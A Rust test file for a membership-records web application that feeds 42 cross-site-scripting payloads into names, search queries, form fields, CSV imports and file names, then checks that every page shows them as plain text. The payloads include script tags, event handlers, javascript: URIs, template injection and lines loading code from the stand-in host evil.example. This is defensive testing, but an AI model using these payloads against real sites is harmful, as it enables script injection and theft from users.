//! S10: whatever people type is text. Names, file names, addresses and questions full of code become nothing else.

use chibo_kernel::{Day, Id, Unit};
use chibo_members::rules::NewMember;
use chibo_organisation::NewUnit;
use chibo_organisation::kinds::{Kind, Setting};
use chibo_organisation::rules::Facts;

use crate::crawl::crawl;
use crate::html::{dangers, tags};
use crate::visitor::Visitor;
use crate::world::World;

/// What people try, each with letters enough to be a name.
pub const PAYLOADS: [&str; 42] = [
    "<script>zzx(1)</script>",
    "</title><script>zzx(2)</script>",
    "</textarea><script>zzx(3)</script>",
    "\"><script>zzx(4)</script>",
    "'><script>zzx(5)</script>",
    "<img src=x onerror=zzx(6)>",
    "\" onmouseover=\"zzx(7)",
    "' onfocus='zzx(8)' autofocus='",
    "<svg/onload=zzx(9)>",
    "<svg><script>zzx(10)</script></svg>",
    "<svg><animate onbegin=zzx(11) attributeName=x dur=1s>",
    "<math><mtext></p><img src onerror=zzx(12)>",
    "<iframe src=javascript:zzx(13)>",
    "<iframe srcdoc=\"<script>zzx(14)</script>\">",
    "<object data=javascript:zzx(15)>",
    "<embed src=//evil.example/zzx16>",
    "<a href=javascript:zzx(17)>bấm</a>",
    "javascript:zzx(18)",
    "JaVaScRiPt:zzx(19)//",
    "data:text/html,<script>zzx(20)</script>",
    "<base href=//evil.example/ zzx21>",
    "<meta http-equiv=refresh content='0;url=//evil.example/zzx22'>",
    "<link rel=stylesheet href=//evil.example/zzx23>",
    "<style>@import '//evil.example/zzx24';</style>",
    "<div style=\"background:url(//evil.example/zzx25)\">",
    "<form action=//evil.example/zzx26><input name=a>",
    "<button formaction=javascript:zzx(27)>gửi</button>",
    "<details open ontoggle=zzx(28)>",
    "<!--<img src=\"--><img src=x onerror=zzx(29)//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=zzx(30)>\">",
    "&lt;script&gt;zzx(31)&lt;/script&gt;",
    "&#60;script&#62;zzx(32)&#60;/script&#62;",
    "%3Cscript%3Ezzx(33)%3C/script%3E",
    "\\u003cscript\\u003ezzx(34)",
    "{{constructor.constructor('zzx(35)')()}}",
    "${zzx(36)}",
    "<x hx-get=//evil.example/zzx37 hx-trigger=load>",
    "Nguyễn\" hx-on:click=\"zzx(38)\" x=\"",
    "Trần`onclick=zzx(39)`",
    "<sCrIpT sRc=//evil.example/zzx40></ScRiPt>",
    "＜script＞zzx(41)＜/script＞",
    "Lê\u{202e}<b onclick=zzx(42)>\u{200b}Hoa",
];

fn member(unit: Id<Unit>, name: &str) -> NewMember {
    let day = |y| Day::from_ymd(y, 5, 19).unwrap();
    NewMember {
        name: name.to_owned(),
        other_name: name.to_owned(),
        birth: Day::from_ymd(1980, 2, 3),
        sex: 1,
        home_town: name.to_owned(),
        birth_place: name.to_owned(),
        job_title: name.to_owned(),
        workplace: name.to_owned(),
        file_no: name.to_owned(),
        languages: name.to_owned(),
        introducers: name.to_owned(),
        admission_decision: name.to_owned(),
        admitted: Some(day(2005)),
        official: Some(day(2006)),
        postings: vec![(unit, day(2005))],
        standings: vec![(1, day(2005)), (2, day(2006))],
        ..NewMember::default()
    }
}

fn unit(world: &World, no: usize, name: &str) -> NewUnit {
    NewUnit::new(
        world.house.db.fresh(),
        Some(world.sites.ward),
        Facts {
            name: name.to_owned(),
            short: format!("{no} {name}"),
            kind: Kind::Branch,
            setting: Setting::Quarter,
            code: String::new(),
        },
        Day::from_ymd(2026, 10, 1).unwrap(),
    )
}

/// Nothing of it runs, leaves or embeds.
fn assert_harmless(url: &str, page: &str) {
    let found = dangers(page);
    assert!(found.is_empty(), "{url}: {found:?}");
}

#[test]
fn s10_names_full_of_code_are_only_names() {
    let world = &World::new();
    let mut pages = Vec::new();
    for (no, payload) in PAYLOADS.iter().enumerate() {
        let new = unit(world, no, payload);
        world.write(|op| chibo_organisation::actions::establish(op, &new).map(drop));
        let id = world.write(|op| chibo_members::actions::enter(op, &member(new.id, payload)));
        pages.extend(["", "/facts", "/postings", "/standing", "/levels"].map(|part| format!("/members/{id}{part}")));
        pages.extend(
            ["?tab=people", "?tab=history", "?tab=count", "/facts", "/parent", "/dissolution", "/offices"]
                .map(|part| format!("/units/{}{part}", new.id)),
        );
        pages.push(format!("/?unit={}", new.id));
        pages.push(format!("/crosstab?unit={}&rows=sex&cols=standing", new.id));
        pages.push(format!("/members?unit={}", new.id));
    }
    let ward = world.sites.ward;
    pages.extend([
        format!("/?unit={ward}"),
        format!("/crosstab?unit={ward}&rows=child&cols=sex"),
        format!("/units/{ward}?tab=children"),
    ]);
    pages.extend([
        format!("/units?open={ward}"),
        "/audit".to_owned(),
        "/search?q=zzx".to_owned(),
        format!("/members?unit={ward}&q=zzx"),
    ]);
    let boss = Visitor::of(world, "boss");
    let mut shown = 0;
    for url in &pages {
        let answer = boss.get(url);
        assert_eq!(answer.status, 200, "{url}");
        let text = answer.text();
        shown += usize::from(text.contains("zzx"));
        assert_harmless(url, &text);
    }
    assert!(shown * 10 > pages.len() * 9, "only {shown} of {} pages show the names", pages.len());
    println!("{} names on {} pages", PAYLOADS.len(), pages.len());
}

#[test]
fn s10_what_is_asked_comes_back_as_text() {
    let world = World::shared();
    let boss = Visitor::of(world, "boss");
    let mut asked = 0;
    for payload in PAYLOADS {
        let value = chibo_web::html::encode(payload);
        let queries = [
            format!("/search?q={value}"),
            format!("/members?q={value}&unit={value}&f={value}&sort={value}&after={value}&day={value}&known={value}"),
            format!("/crosstab?rows={value}&cols={value}&f={value}&show={value}&{value}={value}"),
            format!("/?unit={value}&day={value}"),
            format!("/accounts?q={value}&sort={value}"),
            format!("/units?q={value}&open={value}&parent={value}"),
            format!("/reorganisations?q={value}&after={value}&day={value}"),
            format!("/sign-in?to={value}&done={value}"),
            format!("/nowhere/{value}?{value}"),
            format!("/members/export?q={value}&{value}=1"),
        ];
        for url in queries {
            let answer = boss.get(&url);
            assert!(answer.status < 500, "{url}: {}", answer.status);
            let location = answer.header("location");
            assert!(
                location.is_empty() || location.starts_with('/') && !location.starts_with("//"),
                "{url} leads to {location}"
            );
            assert_harmless(&url, &answer.text());
            asked += 1;
        }
    }
    println!("{asked} questions came back as text");
}

#[test]
fn s10_what_is_sent_comes_back_as_text() {
    let world = &World::new();
    let boss = Visitor::of(world, "boss");
    let ward = world.sites.ward.to_string();
    for payload in PAYLOADS {
        let forms = [
            ("/sign-in", vec![("login", payload), ("to", payload)]),
            (
                "/accounts/new",
                vec![("login", payload), ("name", payload), ("role", payload), ("unit", payload), ("from", payload)],
            ),
            (
                "/units/new",
                vec![("parent", &ward), ("name", payload), ("short", payload), ("code", payload), ("from", payload)],
            ),
            ("/members/new", vec![("unit", payload), ("name", payload), ("birth", payload), ("identity", payload)]),
        ];
        for (url, form) in forms {
            let answer =
                if url == "/sign-in" { Visitor::stranger(world).post(url, &form) } else { boss.post(url, &form) };
            assert!(answer.status < 500, "{url} {payload}: {}", answer.status);
            assert_harmless(url, &answer.text());
        }
        let file = format!("{}.csv", payload.replace(['"', '\r', '\n', '\\'], ""));
        let csv = format!("Họ và tên,Ngày sinh,Chi bộ\n\"{}\",\"{0}\",\"{0}\"\n", payload.replace('"', "\"\""));
        for url in ["/members/import", "/units/import"] {
            let answer = boss.upload(url, &file, csv.as_bytes());
            assert!(answer.status < 500, "{url} {file}: {}", answer.status);
            assert_harmless(url, &answer.text());
            let next = answer.header("location").to_owned();
            if !next.is_empty() {
                let page = boss.get(&next);
                assert_eq!(page.status, 200, "{next}");
                assert_harmless(&next, &page.text());
            }
        }
    }
    for list in ["/members/import", "/units/import"] {
        let page = boss.get(list).text();
        assert!(page.contains("zzx"), "{list} shows the file names");
        assert_harmless(list, &page);
    }
}

#[test]
fn every_page_is_harmless_by_itself() {
    let world = World::shared();
    let mut elements = std::collections::BTreeSet::new();
    crawl(&Visitor::of(world, "boss"), 150, &mut |url, _, answer| {
        if answer.header("content-type").starts_with("text/html") {
            assert_harmless(url, &answer.text());
            elements.extend(tags(&answer.text()).into_iter().map(|tag| tag.name));
        }
    });
    assert!(elements.len() > 40, "{elements:?}");
}
